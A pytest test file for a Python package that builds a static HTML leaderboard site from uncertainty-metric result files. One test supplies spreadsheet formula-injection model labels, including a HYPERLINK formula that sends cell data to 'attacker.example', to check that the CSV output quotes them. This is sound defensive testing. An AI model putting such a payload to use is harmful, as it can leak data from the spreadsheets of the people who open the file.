"""uqmetrics.report: the static leaderboard site of result files (no browser here; the browser
test is tests/test_report_browser.py)."""

from __future__ import annotations

import csv
import json
import math
import re
from html.parser import HTMLParser
from importlib import resources
from pathlib import Path

import numpy as np
import pytest
import xarray as xr

from uqmetrics import (
    InputError,
    ResultSchemaError,
    dataset_checksum,
    read_dataset,
    stamp_result,
    write_dataset,
)
from uqmetrics.report import (
    ReportHook,
    build_site,
    column_name,
    column_values,
    exact_value,
    format_value,
    headline_columns,
    parse_column,
    read_manifest,
)

MODELS = ["net_a", "net_b", "net_c", "net_d"]


def _result(entries: dict | None = None, protocol: str = "toy") -> xr.Dataset:
    """A schema-stamped result: auroc per model, ece per model and calibration (a NaN in it),
    metadata coordinates, a non-metric variable."""
    rng = np.random.default_rng(0)
    ds = xr.Dataset(
        {"auroc": ("model", rng.uniform(0.5, 1.0, 4)),
         "ece": (("model", "calibration"), rng.uniform(0.0, 0.2, (4, 2))),
         "temperature": ("model", rng.uniform(0.5, 2.0, 4))},
        coords={"model": MODELS, "calibration": ["none", "temperature"],
                "architecture": ("model", ["resnet", "resnet", "vit", "vit"]),
                "tag": ("model", ["t0", "t1", "t2", "t3"])})
    ds["ece"][2, 1] = np.nan
    extra = {"entries": json.dumps(entries)} if entries is not None else None
    return stamp_result(ds, protocol, input_checksums=["ab" * 32],
                        metrics={"auroc": "auroc", "ece": "ece"}, extra=extra)


def _write(tmp_path: Path, name: str = "toy.nc", **kw) -> Path:
    return write_dataset(_result(**kw), tmp_path / name)


class _Table(HTMLParser):
    """The leaderboard of a page: header columns, and per row its id, class and cells
    (data-value, text)."""

    def __init__(self):
        super().__init__()
        self.columns, self.rows, self.off, self.toggles = [], [], [], {}
        self._cell = None
        self._depth = 0  # inside <details>: not the cell's shown text
        self._tables = []  # open tables: whether each is the leaderboard

    def handle_starttag(self, tag, attrs):
        a = dict(attrs)
        if tag == "table":
            self._tables.append(a.get("id") == "leaderboard")
        if tag == "input" and "column-toggle" in (a.get("class") or ""):
            self.toggles[a["value"]] = "checked" in a
        if not (self._tables and self._tables[-1]):
            return
        if tag == "th" and "data-column" in a:
            self.columns.append(a["data-column"])
            if "col-off" in (a.get("class") or "").split():
                self.off.append(a["data-column"])
        elif tag == "tr" and "data-row" in a:
            self.rows.append({"row": a["data-row"], "class": a.get("class", ""), "cells": [],
                              "badge": "", "off": []})
        elif tag == "td" and self.rows:
            self._cell = [a.get("data-value"), ""]
            if "col-off" in (a.get("class") or "").split():
                self.rows[-1]["off"].append(len(self.rows[-1]["cells"]))
            self.rows[-1]["cells"].append(self._cell)
        elif tag == "details":
            self._depth += 1
        elif tag == "span" and "badge" in a.get("class", "") and self.rows:
            self.rows[-1]["badge"] = a.get("class")

    def handle_endtag(self, tag):
        if tag == "table":
            self._tables.pop()
        elif tag == "details":
            self._depth -= 1
        elif tag == "td" and self._tables and self._tables[-1]:
            self._cell = None

    def handle_data(self, data):
        if self._cell is not None and not self._depth:
            self._cell[1] += data


def _table(page: Path) -> _Table:
    t = _Table()
    t.feed(page.read_text(encoding="utf-8"))
    return t


def test_site_files_manifest_and_cells_equal_the_result(tmp_path):
    path = _write(tmp_path)
    report = build_site([path], tmp_path / "site")
    site = tmp_path / "site"
    assert sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()) == [
        ".uqmetrics-written.json", "conventions.html", "data/toy.csv", "data/toy.json",
        "index.html", "manifest.json", "toy.html"]
    assert report.n_entries == 4
    ds = read_dataset(path)
    manifest = read_manifest(site)
    assert [e["id"] for e in manifest["entries"]] == [f"toy:{m}" for m in MODELS]
    expected_cols = ["auroc", "ece[calibration=none]", "ece[calibration=temperature]"]
    for i, e in enumerate(manifest["entries"]):
        assert (e["protocol"], e["dim"], e["row"]) == ("toy", "model", MODELS[i])
        assert e["result"] == "../toy.nc"  # relative to the site (--paths relative)
        assert e["result_checksum"] == dataset_checksum(ds)
        assert list(e["metrics"]) == expected_cols
        for col, value in e["metrics"].items():
            var, sel = parse_column(col)
            want = float(ds[var].sel(sel).values[i]) if sel else float(ds[var].values[i])
            assert (value is None and math.isnan(want)) or value == want  # exact, NaN as null
    assert manifest["entries"][2]["metrics"]["ece[calibration=temperature]"] is None

    table = _table(site / "toy.html")
    assert table.columns == ["model", "architecture", *expected_cols]  # tag: an identifier
    assert [r["row"] for r in table.rows] == MODELS
    for i, r in enumerate(table.rows):
        assert r["cells"][1][0] == str(ds["architecture"].values[i])
        for (exact, shown), col in zip(r["cells"][2:], expected_cols, strict=True):
            want = column_values(ds, col, "model")[i]
            if math.isnan(want):
                assert (exact, shown.strip()) == ("NaN", "–")
            else:
                assert float(exact) == want and shown.strip() == format_value(want)


def test_csv_and_json_hold_the_same_table(tmp_path):
    path = _write(tmp_path)
    build_site([path], tmp_path / "site")
    data = json.loads((tmp_path / "site/data/toy.json").read_text())
    with open(tmp_path / "site/data/toy.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert list(rows[0]) == data["columns"] == ["model", "architecture", "auroc",
                                                "ece[calibration=none]",
                                                "ece[calibration=temperature]"]
    assert len(rows) == len(data["rows"]) == 4
    for c, j in zip(rows, data["rows"], strict=True):
        for col in data["columns"]:
            if col in data["metric_columns"]:
                assert (c[col] == "" and j[col] is None) or float(c[col]) == j[col]
            else:
                assert c[col] == j[col]
    assert data["metric_columns"]["ece[calibration=none]"]["greater_is_better"] is False
    assert data["result_checksum"] == dataset_checksum(read_dataset(path))


def test_a_label_a_spreadsheet_would_run_is_quoted_in_the_csv_only(tmp_path):
    """A model named like a formula (a received file's label) is text in the CSV a reader
    opens in a spreadsheet (a leading ``'``); the JSON keeps it as it is. A negative number
    stays a number."""
    evil = '=HYPERLINK("http://attacker.example/?"&A2,"click")'
    ds = _result().assign_coords(model=[evil, "+cmd", "net_c", "@SUM(1)"])
    ds["auroc"][2] = -0.25
    build_site([write_dataset(ds, tmp_path / "toy.nc")], tmp_path / "site")
    with open(tmp_path / "site/data/toy.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    data = json.loads((tmp_path / "site/data/toy.json").read_text())
    assert sorted(r["model"] for r in rows) == sorted(["'" + evil, "'+cmd", "net_c", "'@SUM(1)"])
    assert sorted(r["model"] for r in data["rows"]) == sorted([evil, "+cmd", "net_c", "@SUM(1)"])
    assert [r["auroc"] for r in rows if r["model"] == "net_c"] == ["-0.25"]


def test_site_fetches_nothing(tmp_path):
    """Every asset is inline: no src/href to another host, no external script or style."""
    from uqmetrics.report.plotting import plot_risk_coverage

    def figures(path, ds, out):
        from uqmetrics.report.plotting import save_figure

        fig = plot_risk_coverage({"a": ([0.5, 1.0], [0.1, 0.2])})
        return [save_figure(fig, out / "risk.png")]  # saved as SVG under figure_format

    path = _write(tmp_path)
    report = build_site([path], tmp_path / "site", hooks={"toy": ReportHook(figures=figures)})
    assert report.notes == []
    for page in (tmp_path / "site").glob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert not re.search(r"""(?:src|href)\s*=\s*["']?\s*(?:https?:)?//""", text), page
        assert not re.search(r"<script[^>]*\bsrc=|<link[^>]*stylesheet", text), page
        assert "http://" not in text.replace('xmlns="http://www.w3.org/2000/svg"', "")
        assert "https://" not in text
    text = (tmp_path / "site/toy.html").read_text(encoding="utf-8")
    assert text.count('src="data:image/svg+xml;base64,') == 1
    assert "function cellValue" in text  # the script, inlined
    assert (tmp_path / "site/figures/toy/risk.svg").is_file()
    assert not (tmp_path / "site/figures/toy/risk.png").exists()


def test_a_figure_that_fails_is_said_and_the_table_stands(tmp_path):
    def figures(path, ds, out):
        raise RuntimeError("no axes today")

    report = build_site([_write(tmp_path)], tmp_path / "site",
                        hooks={"toy": ReportHook(figures=figures)})
    assert report.notes == ["toy: figures not drawn: RuntimeError: no axes today"]
    assert "no axes today" in (tmp_path / "site/toy.html").read_text(encoding="utf-8")
    assert len(_table(tmp_path / "site/toy.html").rows) == 4


def test_refuses_a_non_empty_out_and_overwrite_replaces_only_its_own_site(tmp_path):
    """--overwrite replaces a site the report wrote, and nothing else: a folder it did not
    write (no record of its files) and a site holding a file added since are refused, left
    as they were (docs/conventions.md#overwrite-rules)."""
    import os

    path = _write(tmp_path)
    site = tmp_path / "site"
    site.mkdir()
    (site / "stale.txt").write_text("old")
    with pytest.raises(InputError, match="not empty"):
        build_site([path], site)
    with pytest.raises(InputError, match=r"is not a folder uqmetrics report wrote .*'stale.txt'"):
        build_site([path], site, overwrite=True)
    assert sorted(p.name for p in site.iterdir()) == ["stale.txt"]  # untouched
    (site / "stale.txt").unlink()
    build_site([path], site)
    build_site([path], site, overwrite=True)  # its own site: replaced
    assert (site / "index.html").is_file()
    (site / "data" / "notes.md").write_text("mine")
    with pytest.raises(InputError, match=r"holds files uqmetrics report did not write "
                                         r"\('data/notes.md'\)"):
        build_site([path], site, overwrite=True)
    assert (site / "data" / "notes.md").read_text() == "mine"
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # no temp left
    (tmp_path / "empty").mkdir()
    build_site([path], tmp_path / "empty")  # an empty folder is no loss
    assert oct((tmp_path / "empty").stat().st_mode & 0o777) == oct(0o777 & ~_umask())
    (tmp_path / "file").write_text("x")
    with pytest.raises(InputError, match="not a folder"):
        build_site([path], tmp_path / "file", overwrite=True)
    assert os.path.isfile(tmp_path / "file")


def _umask() -> int:
    import os

    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_a_result_file_inside_out_is_refused_even_with_overwrite(tmp_path):
    """Row 3 of issue 36: ``report RESULT --out DIR --overwrite`` with DIR holding RESULT
    deleted the input; it is refused, and the file stays as it was."""
    site = tmp_path / "site"
    build_site([_write(tmp_path)], site)
    inside = _write(site, "inside.nc")
    before = inside.read_bytes()
    for overwrite in (False, True):
        with pytest.raises(InputError, match=r"--out .*site' holds the input result file "
                                             r".*inside.nc'"):
            build_site([inside], site, overwrite=overwrite)
    assert inside.read_bytes() == before
def test_conflicts_are_flagged_and_provenance_shown(tmp_path):
    entries = {"dim": "model",
               "provenance": {"net_a": {"checkpoint_sha256": "aa" * 32, "seeds": [0],
                                        "caches": ["/c/a.nc"]},
                              "net_c": {"wall_time_s": 1.5}},
               "conflicts": {"net_b": {"checkpoint_sha256": ["bb" * 32, "cc" * 32]}}}
    build_site([_write(tmp_path, entries=entries)], tmp_path / "site")
    page = tmp_path / "site/toy.html"
    table = _table(page)
    flagged = {r["row"]: ("conflict" in r["class"], bool(r["badge"])) for r in table.rows}
    assert flagged == {"net_a": (False, False), "net_b": (True, True), "net_c": (False, False),
                       "net_d": (False, False)}
    text = page.read_text(encoding="utf-8")
    assert "caches disagree on checkpoint_sha256" in text
    assert "bb" * 32 in text and "cc" * 32 in text and "aa" * 32 in text
    assert "…/a.nc" in text and "/c/a.nc" not in text  # outside the result's folder: its name
    assert "per-entry provenance not recorded" not in text

    build_site([_write(tmp_path, "plain.nc")], tmp_path / "site2")
    text = (tmp_path / "site2/toy.html").read_text(encoding="utf-8")
    assert text.count("per-entry provenance not recorded") == len(MODELS)
    assert "caches disagree" not in text


def test_entries_along_another_dim_are_refused(tmp_path):
    path = _write(tmp_path, entries={"dim": "method", "provenance": {}, "conflicts": {}})
    with pytest.raises(ValueError, match="entries attr is along 'method'"):
        build_site([path], tmp_path / "site")
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(("name", "table"), [
    ("provenance", ["net_a"]), ("provenance", {"net_a": "abc"}),
    ("conflicts", {"net_a": {"seed": 5}}), ("conflicts", {"net_a": [1]})])
def test_an_edited_entries_attr_is_refused_naming_the_file(tmp_path, name, table):
    """A result file whose ``entries`` attr was edited into another shape (attrs carry no
    checksum) stopped the site with a bare ``AttributeError``, ``TypeError`` or an unrelated
    ``ValueError`` ("dictionary update sequence element"), naming neither the file nor the
    attr; it is refused naming both, before anything is written."""
    entries = {"dim": "model", "provenance": {}, "conflicts": {}, name: table}
    path = _write(tmp_path, entries=entries)
    with pytest.raises(ValueError, match=f"the entries attr's '{name}' is ") as info:
        build_site([path], tmp_path / "site")
    assert str(path.resolve()) in str(info.value)
    assert not (tmp_path / "site").exists()


def test_bad_inputs_are_refused_before_anything_is_written(tmp_path):
    path = _write(tmp_path)
    with pytest.raises(InputError, match="does not exist"):
        build_site([tmp_path / "missing.nc"], tmp_path / "site")
    with pytest.raises(InputError, match="non-empty list"):
        build_site([], tmp_path / "site")
    with pytest.raises(InputError, match="non-empty list"):
        build_site(str(path), tmp_path / "site")
    with pytest.raises(InputError, match="toy.nc' is given twice"):
        build_site([path, tmp_path / "." / "toy.nc"], tmp_path / "site")
    with pytest.raises(InputError, match="--paths must be one of relative, absolute, got 'abs'"):
        build_site([path], tmp_path / "site", paths="abs")
    plain = write_dataset(xr.Dataset({"x": ("model", [1.0])}), tmp_path / "plain.nc")
    with pytest.raises(ResultSchemaError):
        build_site([plain], tmp_path / "site")
    assert not (tmp_path / "site").exists()


def test_two_protocols_one_site(tmp_path):
    a = _write(tmp_path)
    b = write_dataset(_result(protocol="other"), tmp_path / "other.nc")
    build_site([a, b], tmp_path / "site")
    ids = [e["id"] for e in read_manifest(tmp_path / "site")["entries"]]
    assert ids == [f"toy:{m}" for m in MODELS] + [f"other:{m}" for m in MODELS]
    index = (tmp_path / "site/index.html").read_text(encoding="utf-8")
    assert 'href="toy.html"' in index and 'href="other.html"' in index


def test_conventions_page_links_every_metric_column(tmp_path):
    build_site([_write(tmp_path)], tmp_path / "site")
    conventions = (tmp_path / "site/conventions.html").read_text(encoding="utf-8")
    page = (tmp_path / "site/toy.html").read_text(encoding="utf-8")
    for var in ("auroc", "ece"):
        assert f'href="conventions.html#toy-{var}"' in page
        assert f'id="toy-{var}"' in conventions
    from uqmetrics import CONVENTIONS

    assert CONVENTIONS["auroc"].split(":")[0] in page  # the column's tag, e.g. S.2
    assert 'id="c-ece"' in conventions


def _wide_result() -> xr.Dataset:
    """A result with 57 metric columns: auroc per model; ece and nll per model, calibration (2)
    and shift (8); brier per model, shift (8) and severity (3)."""
    rng = np.random.default_rng(1)
    shifts = [f"s{k}" for k in range(8)]
    ds = xr.Dataset(
        {"auroc": ("model", rng.uniform(0.5, 1.0, 4)),
         "ece": (("model", "calibration", "shift"), rng.uniform(0, 0.2, (4, 2, 8))),
         "nll": (("model", "calibration", "shift"), rng.uniform(0, 2, (4, 2, 8))),
         "brier": (("model", "shift", "severity"), rng.uniform(0, 1, (4, 8, 3)))},
        coords={"model": MODELS, "calibration": ["none", "temperature"], "shift": shifts,
                "severity": [1, 2, 3], "architecture": ("model", ["r", "r", "v", "v"])})
    return stamp_result(ds, "wide", input_checksums=["ab" * 32],
                        metrics={"auroc": "auroc", "ece": "ece", "nll": "nll", "brier": "brier"})


#: The headline of :func:`_wide_result` under the rule of ``headline_columns`` (limit 16):
#: one column per variable (4), calibration expanded (+2: 6), severity expanded (+2: 8),
#: shift not (every variable along it times 8 would pass 16).
WIDE_HEADLINE = ["auroc", "ece[calibration=none,shift=s0]",
                 "ece[calibration=temperature,shift=s0]", "nll[calibration=none,shift=s0]",
                 "nll[calibration=temperature,shift=s0]", "brier[shift=s0,severity=1]",
                 "brier[shift=s0,severity=2]", "brier[shift=s0,severity=3]"]


def test_headline_columns_shown_the_rest_hidden_but_in_the_page(tmp_path):
    ds = _wide_result()
    path = write_dataset(ds, tmp_path / "wide.nc")
    report = build_site([path], tmp_path / "site")
    board = report.boards[0]
    names = [c.name for c in board.columns]
    assert len(names) == 1 + 2 * 16 + 24 == 57
    assert board.headline == WIDE_HEADLINE == headline_columns(board.columns)
    table = _table(tmp_path / "site/wide.html")
    assert table.columns == ["model", "architecture", *names]  # every column in the page
    assert [c for c in table.columns if c not in table.off] == ["model", "architecture",
                                                                 *WIDE_HEADLINE]
    hidden = [table.columns.index(c) for c in table.off]
    for i, r in enumerate(table.rows):
        assert r["off"] == hidden  # a hidden column's cells are hidden too, and still there
        for col, (exact, _) in zip(names, r["cells"][2:], strict=True):
            assert float(exact) == column_values(ds, col, "model")[i]
    assert table.toggles == {n: n in WIDE_HEADLINE for n in names}  # one checkbox per column

    # the headline changes the page only: the downloads and the manifest are the same bytes
    build_site([path], tmp_path / "all", hooks={"wide": ReportHook(headline=names)})
    shown_all = _table(tmp_path / "all/wide.html")
    assert shown_all.off == [] and shown_all.toggles == {}  # nothing hidden: no chooser
    for f in ("data/wide.csv", "data/wide.json", "manifest.json"):
        assert (tmp_path / "site" / f).read_bytes() == (tmp_path / "all" / f).read_bytes(), f
    assert list(read_manifest(tmp_path / "site")["entries"][0]["metrics"]) == names
    with open(tmp_path / "site/data/wide.csv", newline="") as fh:
        assert next(csv.reader(fh)) == ["model", "architecture", *names]


def test_headline_rule_and_hook_override(tmp_path):
    ds = _wide_result()
    path = write_dataset(ds, tmp_path / "wide.nc")
    board = build_site([path], tmp_path / "a").boards[0]
    cols = board.columns
    assert headline_columns(cols, limit=4) == ["auroc", "ece[calibration=none,shift=s0]",
                                               "nll[calibration=none,shift=s0]",
                                               "brier[shift=s0,severity=1]"]
    assert headline_columns(cols, limit=2) == ["auroc", "ece[calibration=none,shift=s0]"]
    assert len(headline_columns(cols, limit=57)) == 57 == len(cols)
    # 6 columns: calibration expands (6), severity would make 8, shift 36: both stay
    assert headline_columns(cols, limit=7) == [c for c in WIDE_HEADLINE if "severity=1" in c
                                               or "severity" not in c]
    for bad in (0, -1, 2.5, True):
        with pytest.raises(ValueError, match="limit must be a positive integer"):
            headline_columns(cols, limit=bad)

    pick = ["brier[shift=s3,severity=2]", "auroc"]  # given out of order: shown in column order
    for headline in (pick, lambda d: pick):
        out = tmp_path / f"h{id(headline)}"
        b = build_site([path], out, hooks={"wide": ReportHook(headline=headline)}).boards[0]
        assert b.headline == ["auroc", "brier[shift=s3,severity=2]"]
        table = _table(out / "wide.html")
        assert [c for c in table.columns if c not in table.off] == ["model", "architecture",
                                                                     *b.headline]
    with pytest.raises(ValueError, match=r"headline names \['ece'\], which are not"):
        build_site([path], tmp_path / "bad", hooks={"wide": ReportHook(headline=["ece"])})
    with pytest.raises(ValueError, match="must be a list of column names"):
        build_site([path], tmp_path / "bad", hooks={"wide": ReportHook(headline="auroc")})
    assert not (tmp_path / "bad").exists()


def test_column_names_round_trip():
    ds = _result()
    assert column_name("ece", {"calibration": "none"}) == "ece[calibration=none]"
    assert parse_column("auroc") == ("auroc", {})
    np.testing.assert_array_equal(column_values(ds, "ece[calibration=temperature]", "model"),
                                  ds["ece"].values[:, 1])
    with pytest.raises(ValueError, match="dims \\['model', 'calibration'\\] remain"):
        column_values(ds, "ece", "model")
    with pytest.raises(ValueError, match="label 'platt'"):
        column_values(ds, "ece[calibration=platt]", "model")
    with pytest.raises(ValueError, match="is not dim=label"):
        parse_column("ece[calibration]")


def test_format_value():
    assert [format_value(v) for v in (0.98765, 12345.0, 1e-5, 0.0, None, "x", 7)] == [
        "0.9877", "1.234e+04", "1.000e-05", "0.0000", "–", "x", "7"]
    # an infinity is a value, shown as one; its exact text reads back in the page and in Python
    assert [format_value(v) for v in (np.inf, -np.inf, np.nan)] == ["∞", "−∞", "–"]
    assert [exact_value(v) for v in (np.inf, -np.inf, np.nan, 0.1)] == [
        "Infinity", "-Infinity", "NaN", "0.1"]
    assert float(exact_value(-np.inf)) == -np.inf


def test_templates_and_assets_are_package_data():
    root = resources.files("uqmetrics.report")
    for name in ("templates/base.html.j2", "templates/index.html.j2",
                 "templates/protocol.html.j2", "templates/conventions.html.j2",
                 "static/report.js", "static/report.css"):
        assert root.joinpath(name).is_file(), name


def test_figure_format_switches_the_one_save_path(tmp_path):
    from uqmetrics.report.plotting import figure_format, figure_grid, save_figure

    fig, _ = figure_grid(1, 1, panel=(2, 2))
    assert save_figure(fig, tmp_path / "a.png").name == "a.png"
    with figure_format("svg"):
        p = save_figure(fig, tmp_path / "b.png")
        q = save_figure(fig, tmp_path / "c")
    assert (p.name, q.name) == ("b.svg", "c.svg")
    assert p.read_text().lstrip().startswith("<?xml") and not (tmp_path / "b.png").exists()
    assert save_figure(fig, tmp_path / "d.png").read_bytes()[:4] == b"\x89PNG"  # reset after
    with pytest.raises(ValueError, match="fmt must be one of"), figure_format("gif"):
        pass


DETECTORS = ["msp", "energy", "knn"]


def _ood_result(dataset: str = "val") -> xr.Dataset:
    """A result along (model, detector, ood_set), near/far means along (model, detector), an
    id_accuracy per model, an accuracy along (model, corruption, calibration)."""
    rng = np.random.default_rng(2)
    ds = xr.Dataset(
        {"auroc": (("model", "detector", "ood_set"), rng.uniform(0.5, 1, (4, 3, 2))),
         "near_auroc": (("model", "detector"), rng.uniform(0.5, 1, (4, 3))),
         "far_auroc": (("model", "detector"), rng.uniform(0.5, 1, (4, 3))),
         "id_accuracy": ("model", rng.uniform(0.2, 0.9, 4)),
         "accuracy": (("model", "corruption", "calibration"), rng.uniform(0, 1, (4, 3, 2)))},
        coords={"model": MODELS, "detector": DETECTORS, "ood_set": ["near", "far"],
                "corruption": ["blur", "noise", "fog"], "calibration": ["none", "temperature"]})
    return stamp_result(ds, "toy", input_checksums=["ab" * 32],
                        metrics={"auroc": "ood_auroc", "near_auroc": "ood_auroc",
                                 "far_auroc": "ood_auroc", "id_accuracy": "accuracy",
                                 "accuracy": "accuracy"},
                        extra={"dataset_name": dataset})


def test_declared_rows_and_headline_are_honoured(tmp_path):
    """Issue 37 §5: a hook's ``rows`` stack dims into one row (model x detector, OpenOOD's
    table) and its ``headline`` is the default view (a name the file lacks left out, ``*`` any
    label), never the generic rule; a mean column is derived; the manifest names every value
    with all its labels, so that verify reads each back from the file."""
    from uqmetrics.report.verify import verify

    ds = _ood_result()
    path = write_dataset(ds, tmp_path / "ood.nc")
    hook = ReportHook(rows=("model", "detector"),
                      headline=("near_auroc", "far_auroc", "id_accuracy", "mce_if_any",
                                "accuracy[corruption=*,calibration=none]"),
                      means=("accuracy[calibration=none]",))
    report = build_site([path], tmp_path / "site", hooks={"toy": hook})
    board = report.boards[0]
    pairs = [(m, d) for m in MODELS for d in DETECTORS]
    assert [(board.rows[i], board.keys["detector"][i]) for i in range(len(pairs))] == pairs
    assert board.headline == ["near_auroc", "far_auroc", "id_accuracy",
                              "accuracy[corruption=blur,calibration=none]",
                              "accuracy[corruption=noise,calibration=none]",
                              "accuracy[corruption=fog,calibration=none]"]
    assert board.headline != headline_columns(board.columns)  # not the generic rule

    table = _table(tmp_path / "site/toy.html")
    mean = "accuracy[calibration=none,corruption=mean]"
    assert table.columns[:3] == ["model", "detector", mean]
    assert [c for c in table.columns if c not in table.off] == ["model", "detector", mean,
                                                                 *board.headline]
    assert [r["row"] for r in table.rows] == [f"{m}/{d}" for m, d in pairs]
    col = {c: k for k, c in enumerate(table.columns)}
    for r, (m, d) in zip(table.rows, pairs, strict=True):
        cells = r["cells"]
        assert cells[col["detector"]][0] == d
        assert float(cells[col["near_auroc"]][0]) == ds["near_auroc"].sel(model=m, detector=d)
        assert float(cells[col["id_accuracy"]][0]) == ds["id_accuracy"].sel(model=m)
        assert float(cells[col["auroc[ood_set=far]"]][0]) == ds["auroc"].sel(
            model=m, detector=d, ood_set="far")
        assert float(cells[col[mean]][0]) == float(
            ds["accuracy"].sel(model=m, calibration="none").mean())

    entries = read_manifest(tmp_path / "site")["entries"]
    assert [e["id"] for e in entries] == [f"toy:{m}/{d}" for m, d in pairs]
    first = entries[0]
    assert (first["dim"], first["row"], first["keys"]) == ("model", "net_a", {"detector": "msp"})
    assert first["metrics"]["auroc[detector=msp,ood_set=near]"] == ds["auroc"].sel(
        model="net_a", detector="msp", ood_set="near")
    assert first["metrics"]["id_accuracy"] == ds["id_accuracy"].sel(model="net_a")
    assert mean not in first["metrics"]  # derived: never in the manifest
    lines = []
    verify(f"{tmp_path / 'site'}#toy:net_c/knn", lambda protocol: None, out=lines.append)
    assert f"  agree     manifest metrics: {len(first['metrics'])} values equal the file's" \
        in lines
    with pytest.raises(ValueError, match=r"rows \['detector'\] must .* begin with its row_dim "
                                         r"'model'"):
        build_site([path], tmp_path / "bad", hooks={"toy": ReportHook(rows=("detector",),
                                                                     row_dim="model")})


def test_several_files_of_one_protocol_share_a_site(tmp_path):
    """Issue 37 §5: two files of one protocol (a set each) go into one site, a page each named
    after its dataset, with distinct entry ids, data files and manifest entries; ``verify``
    finds each entry's own file."""
    from uqmetrics.report.verify import resolve_target

    (tmp_path / "val").mkdir()
    (tmp_path / "v2").mkdir()
    val = write_dataset(_ood_result("val"), tmp_path / "val" / "scores.nc")
    v2 = write_dataset(_ood_result("imagenet-v2"), tmp_path / "v2" / "scores.nc")
    site = tmp_path / "site"
    report = build_site([val, v2], site)
    assert [b.page for b in report.boards] == ["toy-val", "toy-imagenet-v2"]
    files = sorted(p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file())
    for page in ("toy-val", "toy-imagenet-v2"):
        assert {f"{page}.html", f"data/{page}.csv", f"data/{page}.json"} <= set(files)
    entries = read_manifest(site)["entries"]
    ids = [e["id"] for e in entries]
    assert len(ids) == len(set(ids)) == 8
    assert ids[:4] == [f"toy-val:{m}" for m in MODELS]
    assert ids[4:] == [f"toy-imagenet-v2:{m}" for m in MODELS]
    assert {e["result"] for e in entries} == {"../val/scores.nc", "../v2/scores.nc"}
    (entry,) = resolve_target(f"{site}#toy-imagenet-v2:net_b")
    assert entry.result.samefile(v2) and entry.row == "net_b"
    page = (site / "toy-imagenet-v2.html").read_text(encoding="utf-8")
    assert "<h1>toy (imagenet-v2)</h1>" in page and "on dataset imagenet-v2" in page
    index = (site / "index.html").read_text(encoding="utf-8")
    assert 'href="toy-val.html"' in index and 'href="toy-imagenet-v2.html"' in index


def test_subtitle_and_images_describe_the_run(tmp_path):
    """Issue 37 §5: the line under the heading is the run the file records (its rows, its
    dataset), or the hook's; the hook's images line and the units of its columns are said."""
    path = write_dataset(_ood_result("val"), tmp_path / "ood.nc")
    build_site([path], tmp_path / "site", hooks={"toy": ReportHook(
        description="V.6 (523 classifiers)")})
    page = (tmp_path / "site/toy.html").read_text(encoding="utf-8")
    subtitle = re.search(r'<p class="subtitle">([^<]*)</p>', page)[1]
    assert subtitle == "4 models on dataset val"
    assert "The paper's protocol: V.6 (523 classifiers)" in page  # labelled as the paper's

    hook = ReportHook(subtitle=lambda ds: f"{ds.sizes['model']} nets of the run",
                      images=lambda ds: f"all {ds.attrs['dataset_name']} images",
                      extra_columns=lambda ds, dim: {
                          "top1": list(100 * ds["id_accuracy"].values)},
                      units={"top1": "%"})
    build_site([path], tmp_path / "site2", hooks={"toy": hook})
    page = (tmp_path / "site2/toy.html").read_text(encoding="utf-8")
    assert '<p class="subtitle">4 nets of the run</p>' in page
    assert '<p class="images">Images: all val images</p>' in page
    assert 'data-column="top1" data-type="number" scope="col">top1 (%)</th>' in page
    assert "in the unit their header shows: <code>top1</code> (%)" in page


def test_site_holds_no_absolute_path_unless_asked(tmp_path):
    """Issue 37 §5: every file of the site is free of the building machine's folders (the
    test's temporary folder, $HOME): the result is named relative to the site, caches and
    weights relative to the result's folder or by name. ``verify`` still finds the result
    and the caches (it reads those from the result). ``paths="absolute"`` shows them."""
    import os

    from uqmetrics.report.verify import resolve_target

    home = os.path.expanduser("~")
    run = tmp_path / "run"
    (run / "scores").mkdir(parents=True)
    cache = run / "caches" / "net_a.val.nc"
    entries = {"dim": "model",
               "provenance": {"net_a": {"caches": [str(cache)],
                                        "weights_file": f"{home}/models/net_a.safetensors"}},
               "conflicts": {"net_b": {"weights_file": [f"{tmp_path}/x.pt", "/elsewhere/y.pt"]}}}
    ds = _result(entries=entries)
    ds.attrs["caches"] = json.dumps({str(cache): "ab" * 32})
    ds.attrs["run_config"] = json.dumps({"cwd": str(tmp_path), "options": {"out": str(run)}})
    ds.attrs["notes"] = f"wrote {cache}. and {home}/a b"
    path = write_dataset(ds, run / "scores" / "toy.nc")
    site = tmp_path / "site"

    def leaks(folder: Path, needle: str) -> list[str]:
        return [p.relative_to(folder).as_posix() for p in folder.rglob("*")
                if p.is_file() and needle in p.read_text(encoding="utf-8", errors="replace")]

    build_site([path], site)
    for needle in (str(tmp_path), *([home] if len(home) > 1 else [])):
        assert leaks(site, needle) == [], needle
    page = (site / "toy.html").read_text(encoding="utf-8")
    assert "../caches/net_a.val.nc" in page  # the cache, relative to the result's folder
    assert "…/net_a.safetensors" in page and "…/y.pt" in page  # elsewhere: the name
    (entry, *_) = resolve_target(site)
    assert entry.result == Path(os.path.normpath(site / "../run/scores/toy.nc"))
    assert entry.result.samefile(path)

    build_site([path], tmp_path / "abs", paths="absolute")
    assert sorted(leaks(tmp_path / "abs", str(tmp_path))) == [
        "data/toy.json", "index.html", "manifest.json", "toy.html"]
    assert read_manifest(tmp_path / "abs")["entries"][0]["result"] == str(path.resolve())
